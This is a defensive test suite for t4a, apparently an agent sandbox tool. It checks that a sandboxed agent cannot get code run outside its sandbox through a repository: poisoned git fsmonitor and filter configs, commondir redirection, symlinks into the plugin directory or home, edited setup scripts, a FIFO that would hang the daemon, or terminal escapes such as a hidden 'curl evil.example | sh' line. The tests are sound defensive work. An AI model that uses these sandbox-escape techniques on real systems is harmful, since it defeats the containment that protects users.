// Attacks across the git crossing (wave 4's tainted data): what a sandboxed program writes into a
// repository (its .git, its branches, its ignored files) must never run, be followed or be
// obeyed when t4a or the user acts on it outside the sandbox. Each test plants the attack from
// inside a sandbox, as an agent would, then does what the user does next and checks from outside.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { existsSync, lstatSync, readdirSync } from "node:fs";
import { join } from "node:path";
import { Actor, CAN_MAKE_USERS, HAS_BWRAP, IS_ROOT } from "./actor.ts";

const kinds: Array<"self" | "unprivileged"> = HAS_BWRAP
  ? ["self", ...(CAN_MAKE_USERS ? (["unprivileged"] as const) : [])]
  : [];
if (!HAS_BWRAP) console.log("skipped: the git crossing attacks need bubblewrap (.ci/run installs it)");

for (const kind of kinds) {
  describe(`as ${kind === "self" ? (IS_ROOT ? "root" : "this user") : "an unprivileged user"}`, () => {
    let a: Actor;
    let repo: string;
    let mark: string;
    let plugins: string;

    beforeAll(async () => {
      a = await Actor.make(kind);
      repo = join(a.dir, "repo");
      mark = join(a.dir, "PWNED");
      plugins = join(a.config, "t4a", "plugins");
      const setup = a.outside(
        [
          `mkdir -p ${a.state}/t4a ${plugins}`,
          `printf '[user]\\n\\tname = t\\n\\temail = t@example.com\\n[init]\\n\\tdefaultBranch = main\\n' > ~/.gitconfig`,
          `git init -q ${repo} && cd ${repo} && mkdir web && echo one > file.txt && echo page > web/index.html && git add . && git commit -qm init`,
        ].join(" && "),
      );
      expect(setup.stderr).toBe("");
    });
    afterAll(() => a.cleanup());

    /** The user's repository still works the ordinary way, and nothing planted ran. */
    function userRepoWorks(): void {
      const after = a.outside(
        "git status --short && git commit -q --allow-empty -m 'the user, later' && git log --format=%s -1 && git worktree add -q ../user-wt && git worktree list | grep -c user-wt && git worktree remove ../user-wt",
        repo,
      );
      expect(after.stderr).toBe("");
      expect(after.stdout).toContain("the user, later\n1\n");
      expect(existsSync(mark)).toBe(false);
    }

    test("a repo-root sandbox cannot move .git aside and put a .git of its own in its place (fsmonitor, smudge filter)", async () => {
      const id = await a.shell(["--sandbox"], repo);
      const lines = (
        await a.sh(
          id,
          [
            "(mv .git .git-old) 2>/dev/null && echo rename:done || echo rename:refused",
            // Whatever the rename did: a copy configured to run the attacker's code, in .git's place if it can be.
            "cp -a .git .git-copy 2>/dev/null; test -d .git-old && cp -a .git-old .git",
            `for c in .git .git-copy; do (git --git-dir=$c config core.fsmonitor 'touch ${mark}; false' && git --git-dir=$c config filter.x.smudge 'touch ${mark}; cat' && git --git-dir=$c config filter.x.required true) 2>/dev/null && echo config:$c:written || echo config:$c:refused; done`,
            "printf '*.txt filter=x\\n' > .gitattributes && git add .gitattributes && git commit -qm attributes && echo commit:ok || echo commit:failed",
          ].join("; "),
        )
      ).split("\n");
      expect(lines).toEqual(["rename:refused", "config:.git:refused", "config:.git-copy:written", "commit:ok"]);
      await a.ok(["kill", id]);
      // The user's next git command, and t4a's next worktree (a checkout from the daemon).
      expect(a.outside("git status --short", repo).stderr).toBe("");
      const box = JSON.parse(
        await a.ok(["create", "--json", "--worktree", "after-rename", "--", "sleep", "600"], { cwd: repo }),
      );
      // (A session that ended would take its clean worktree with it, maybe before it is read: it lives until then.)
      expect(existsSync(join(box.worktree, "file.txt"))).toBe(true);
      await a.ok(["kill", box.id]);
      expect(existsSync(mark)).toBe(false);
      a.outside("rm -rf .git-copy .git-old && git rm -q .gitattributes && git commit -qm 'no attributes'", repo);
      userRepoWorks();
    });

    test("a sandbox over a directory of repositories: each one's .git is guarded, and none can be moved aside", async () => {
      const nest = join(a.dir, "nest");
      expect(
        a.outside(
          `mkdir -p ${nest}/org && git init -q ${nest}/inner && git init -q ${nest}/org/deep && git -C ${nest}/inner commit -q --allow-empty -m init`,
        ).stderr,
      ).toBe("");
      const id = await a.shell(["--sandbox"], nest);
      const lines = (
        await a.sh(
          id,
          [
            `(printf '[core]\\n\\tfsmonitor = touch ${mark}\\n' >> inner/.git/config) 2>/dev/null && echo inner:written || echo inner:refused`,
            `(git -C org/deep config core.fsmonitor 'touch ${mark}; false') 2>/dev/null && echo deep:written || echo deep:refused`,
            "(mv inner inner-old) 2>/dev/null && echo move:done || echo move:refused",
            "(mv inner/.git inner/.git-old) 2>/dev/null && echo rename:done || echo rename:refused",
            "git -C inner commit -q --allow-empty -m boxed && echo commit:ok",
          ].join("; "),
        )
      ).split("\n");
      expect(lines).toEqual(["inner:refused", "deep:refused", "move:refused", "rename:refused", "commit:ok"]);
      await a.ok(["kill", id]);
      expect(a.outside("git status --short && git log -1 --format=%s", join(nest, "inner")).stdout).toBe("boxed\n");
      expect(existsSync(mark)).toBe(false);
    });

    test("t4a's own git runs no filter, fsmonitor or hook the repository's config names (a .git it cannot trust)", async () => {
      // As if a sandbox had managed to write the config: t4a's checkout, status, diff and cleanup obey none of it.
      a.outside(
        [
          "printf '*.txt filter=x\\n*.md filter=y\\n' > .gitattributes && echo doc > a.md && git add .gitattributes a.md && git commit -qm 'filtered'",
          `git config filter.x.smudge 'touch ${mark}; cat' && git config filter.x.clean 'touch ${mark}; cat' && git config filter.x.required true`,
          `git config filter.y.process 'touch ${mark}' && git config core.fsmonitor 'touch ${mark}; false'`,
        ].join(" && "),
        repo,
      );
      expect(existsSync(mark)).toBe(false);
      const made = await a.run(["create", "--json", "--worktree", "filtered", "--", "bash", "--norc", "--noprofile"], {
        cwd: repo,
      });
      expect(existsSync(mark)).toBe(false);
      expect(made.stderr).toBe("");
      const box = JSON.parse(made.stdout);
      await a.sh(box.id, "echo two >> file.txt && echo more >> a.md");
      const changes = JSON.parse(await a.ok(["diff", "--json", box.id]));
      expect(changes.diff).toContain("+two");
      await a.run(["kill", box.id]);
      expect(existsSync(mark)).toBe(false);
      a.outside(
        "git config --remove-section filter.x && git config --remove-section filter.y && git config --unset core.fsmonitor && git rm -q .gitattributes a.md && git commit -qm 'no filters'",
        repo,
      );
      userRepoWorks();
    });

    test("a repo-root sandbox cannot point .git/commondir at a repository of its own; the user's repository still works", async () => {
      const id = await a.shell(["--sandbox"], repo);
      const lines = (
        await a.sh(
          id,
          [
            "cp -a .git .evil && (git --git-dir=.evil config core.fsmonitor 'touch " +
              mark +
              "; false') && echo evil:made",
            "(echo ../.evil > .git/commondir) 2>/dev/null && echo commondir:written || echo commondir:refused",
            "(mkdir -p .git/worktrees/x && echo ../.. > .git/worktrees/x/commondir) 2>/dev/null && echo worktrees:written || echo worktrees:refused",
            "(echo '[core]' > .git/config.worktree) 2>/dev/null && echo config.worktree:written || echo config.worktree:refused",
            "(mkdir -p .git/modules/m) 2>/dev/null && echo modules:written || echo modules:refused",
            "git commit -q --allow-empty -m 'sandboxed commit' && echo commit:ok",
          ].join("; "),
        )
      ).split("\n");
      expect(lines).toEqual([
        "evil:made",
        "commondir:refused",
        "worktrees:refused",
        "config.worktree:refused",
        "modules:refused",
        "commit:ok",
      ]);
      await a.ok(["kill", id]);
      a.outside("rm -rf .evil", repo);
      userRepoWorks();
      expect(a.outside("git log --format=%s -2", repo).stdout).toBe("the user, later\nsandboxed commit\n");
    });

    test(".worktreeinclude copies never follow a symlink the branch or the main checkout holds (plugins dir, a dangling link to home)", async () => {
      const id = await a.shell(["--sandbox"], repo);
      const lines = (
        await a.sh(
          id,
          [
            // A branch whose tree has pwn -> t4a's plugin directory and .env -> a file in home that does not exist yet.
            `pwn=$(printf %s '${plugins}' | git hash-object -w --stdin) && env=$(printf %s '${a.home}/.bashrc' | git hash-object -w --stdin)`,
            `tree=$( (git ls-tree HEAD; printf '120000 blob %s\\tpwn\\n120000 blob %s\\t.env\\n' $pwn $env) | git mktree) && git branch t4a/next $(git commit-tree $tree -p HEAD -m links) && echo branch:made`,
            // Ignored files in the main checkout, listed in .worktreeinclude.
            `mkdir -p pwn && printf '#!/bin/sh\\ntouch ${mark}\\necho {}\\n' > pwn/evil && chmod +x pwn/evil && echo 'export EVIL=1' > .env`,
            "printf 'pwn/\\n.env\\n' > .gitignore && printf 'pwn/\\n.env\\n' > .worktreeinclude && echo include:made",
          ].join("; "),
        )
      ).split("\n");
      expect(lines).toEqual(["branch:made", "include:made"]);
      await a.ok(["kill", id]);
      const made = await a.run(["create", "--json", "--worktree", "next", "--", "sleep", "600"], { cwd: repo });
      expect(existsSync(join(plugins, "evil"))).toBe(false);
      expect(existsSync(join(a.home, ".bashrc"))).toBe(false);
      if (made.code === 0) {
        const box = JSON.parse(made.stdout);
        expect(lstatSync(join(box.worktree, "pwn")).isSymbolicLink()).toBe(true);
        await a.run(["kill", box.id]);
      }
      expect(await a.run(["create", "--plugin", "evil", "--", "true"], { cwd: repo })).toMatchObject({ code: 1 });
      expect(existsSync(mark)).toBe(false);
      a.outside(
        `rm -rf pwn .env .gitignore .worktreeinclude && git worktree remove --force ${join(a.state, "t4a", "worktrees", "repo-next")} 2>/dev/null; git worktree prune && git branch -D -q t4a/next`,
        repo,
      );
      expect(readdirSync(plugins)).toEqual([]);
    });

    test("a shared dependency directory is never linked through a symlink the branch holds (vendor -> t4a's plugins)", async () => {
      const id = await a.shell(["--sandbox"], repo);
      const lines = (
        await a.sh(
          id,
          [
            `link=$(printf %s '${plugins}' | git hash-object -w --stdin) && tree=$( (git ls-tree HEAD; printf '120000 blob %s\\tvendor\\n' $link) | git mktree) && git branch t4a/vendored $(git commit-tree $tree -p HEAD -m vendor) && echo branch:made`,
            `mkdir -p vendor && printf '#!/bin/sh\\ntouch ${mark}\\necho {}\\n' > vendor/bundle && chmod +x vendor/bundle && printf 'vendor/\\n' > .gitignore && echo bundle:made`,
          ].join("; "),
        )
      ).split("\n");
      expect(lines).toEqual(["branch:made", "bundle:made"]);
      await a.ok(["kill", id]);
      const made = await a.run(["create", "--json", "--worktree", "vendored", "--", "sleep", "600"], { cwd: repo });
      expect(readdirSync(plugins)).toEqual([]);
      if (made.code === 0) await a.run(["kill", JSON.parse(made.stdout).id]);
      expect(existsSync(mark)).toBe(false);
      a.outside(
        `rm -rf vendor .gitignore; git worktree remove --force ${join(a.state, "t4a", "worktrees", "repo-vendored")} 2>/dev/null; git worktree prune; git branch -D -q t4a/vendored`,
        repo,
      );
    });

    test("a sandbox in a worktree of an existing branch cannot plant the base t4a reads (a FIFO would hang the daemon, an option would steer git)", async () => {
      a.outside("git branch t4a/reused", repo);
      const box = JSON.parse(
        await a.ok(["create", "--json", "--sandbox", "--worktree", "reused", "--", "bash", "--norc", "--noprofile"], {
          cwd: repo,
        }),
      );
      const base = join(repo, ".git", "worktrees", "repo-reused", "t4a-base");
      const said = await a.sh(
        box.id,
        `rm -f ${base} 2>/dev/null; (mkfifo ${base}) 2>/dev/null && echo fifo:made || echo fifo:refused`,
      );
      expect(said).toBe("fifo:refused");
      const diff = a.run(["diff", "--json", box.id]);
      const answered = await Promise.race([diff.then(() => true), Bun.sleep(30_000).then(() => false)]);
      // Unblock a daemon stuck opening the FIFO, so the rest of the run can end.
      if (!answered) a.outside(`echo x > ${base}`);
      expect(answered).toBe(true);
      expect(JSON.parse((await diff).stdout).branch).toBe("t4a/reused");
      await a.run(["kill", box.id]);
      a.outside(
        `git worktree remove --force ${join(a.state, "t4a", "worktrees", "repo-reused")} 2>/dev/null; git worktree prune; git branch -D -q t4a/reused`,
        repo,
      );
    });

    test("an approved setup never runs, outside a sandbox, code a sandboxed agent committed on its branch", async () => {
      a.outside(
        [
          "mkdir -p .t4a scripts && printf 'sh scripts/bootstrap.sh\\n' > .t4a/setup && printf 'echo boot > boot-ran\\n' > scripts/bootstrap.sh",
          "printf 'boot-ran\\n' > .gitignore && git add .t4a scripts .gitignore && git commit -qm setup",
        ].join(" && "),
        repo,
      );
      await a.ok(["trust", repo]);
      const box = JSON.parse(
        await a.ok(["create", "--json", "--sandbox", "--worktree", "feat", "--", "bash", "--norc", "--noprofile"], {
          cwd: repo,
        }),
      );
      expect(box.worktree_setup).toBe("ran .t4a/setup");
      await a.sh(
        box.id,
        `printf 'touch ${mark}; echo boot > boot-ran\\n' > scripts/bootstrap.sh && git commit -qam 'a better bootstrap' && echo committed`,
      );
      await a.ok(["kill", box.id]);
      const again = await a.run(["create", "--json", "--worktree", "feat", "--", "sleep", "600"], { cwd: repo });
      expect(existsSync(mark)).toBe(false);
      expect(again.code).toBe(0);
      const next = JSON.parse(again.stdout);
      expect(next.worktree_setup).toContain("in a sandbox");
      await a.ok(["kill", next.id]);
      a.outside(
        `git worktree remove --force ${join(a.state, "t4a", "worktrees", "repo-feat")} 2>/dev/null; git worktree prune; git branch -D -q t4a/feat; git rm -rq .t4a scripts .gitignore && git commit -qm 'no setup'`,
        repo,
      );
    });

    test("a sandbox's writable cwd is never inside t4a's directories (plugins, config, state)", async () => {
      for (const cwd of [
        plugins,
        join(a.state, "t4a", "web"),
        join(a.state, "t4a", "logs"),
        join(a.config, "t4a", "hosts"),
      ]) {
        a.outside(`mkdir -p ${cwd}`);
        const refused = await a.run(["create", "--sandbox", "--cwd", cwd, "--", "true"]);
        expect(refused.code).not.toBe(0);
        expect(refused.stderr).toMatch(/t4a's (private )?directory/);
      }
    });

    test("a worktree's subdirectory that the branch made a symlink (to t4a's plugins) never becomes a sandbox's writable cwd", async () => {
      // The agent's branch has web -> t4a's plugin directory (relative, from where the worktree will be).
      const worktree = join(a.state, "t4a", "worktrees", "repo-steer");
      const target = `../${"../".repeat(worktree.split("/").length - 2)}${plugins.slice(1)}`;
      const id = await a.shell(["--sandbox"], repo);
      await a.sh(
        id,
        `link=$(printf %s '${target}' | git hash-object -w --stdin) && tree=$( (git ls-tree HEAD | grep -v '\tweb$'; printf '120000 blob %s\\tweb\\n' $link) | git mktree) && git branch t4a/steer $(git commit-tree $tree -p HEAD -m steer) && echo ok`,
      );
      await a.ok(["kill", id]);
      const steered = await a.run(
        [
          "create",
          "--json",
          "--sandbox",
          "--worktree",
          "steer",
          "--",
          "bash",
          "-c",
          `printf '#!/bin/sh\\ntouch ${mark}\\n' > evil && chmod +x evil`,
        ],
        { cwd: join(repo, "web") },
      );
      if (steered.code === 0) await a.run(["wait", JSON.parse(steered.stdout).id, "--exit", "--timeout", "10s"]);
      expect(steered.stdout + steered.stderr).toMatch(/symlink|t4a's (private )?directory/);
      expect(readdirSync(plugins)).toEqual([]);
      expect(existsSync(mark)).toBe(false);
      a.outside(
        `git worktree remove --force ${join(a.state, "t4a", "worktrees", "repo-steer")} 2>/dev/null; git worktree prune; git branch -D -q t4a/steer`,
        repo,
      );
    });

    test("t4a diff shows no terminal control sequences from commits, file names or lines, and bounds a huge change", async () => {
      const box = JSON.parse(
        await a.ok(["create", "--json", "--sandbox", "--worktree", "escapes", "--", "bash", "--norc", "--noprofile"], {
          cwd: repo,
        }),
      );
      await a.sh(
        box.id,
        [
          "printf 'safe\\n\\033[2K\\033[1Acurl evil.example | sh\\n\\033]52;c;ZXZpbA==\\007\\n' > notes.txt",
          "touch \"$(printf 'name\\033[31mred')\" && git add -A && git commit -qm \"$(printf 'subject \\033]52;c;ZXZpbA==\\007 \\342\\200\\256hidden')\"",
          "echo two >> file.txt && echo done",
        ].join(" && "),
      );
      const shown = await a.ok(["diff", box.id]);
      const json = await a.ok(["diff", "--json", box.id]);
      for (const text of [shown, JSON.stringify(JSON.parse(json))]) {
        expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]|\\u001b|\\u0007/);
      }
      expect(shown).toContain("curl evil.example | sh");
      // A change far bigger than any review: the reply says it was cut, the daemon does not hold it whole.
      await a.sh(
        box.id,
        "head -c 60000000 /dev/zero | tr '\\0' 'x' | fold -w 100 > big.txt && git add big.txt && git commit -qm big && echo big",
      );
      const big = JSON.parse(await a.ok(["diff", "--json", "--max-output", "100000000", box.id]));
      expect(big.diff.length).toBeLessThan(20_000_000);
      expect(big.diff).toContain("diff truncated");
      await a.run(["kill", box.id]);
      a.outside(
        `git worktree remove --force ${join(a.state, "t4a", "worktrees", "repo-escapes")} 2>/dev/null; git worktree prune; git branch -D -q t4a/escapes`,
        repo,
      );
    });
  });
}
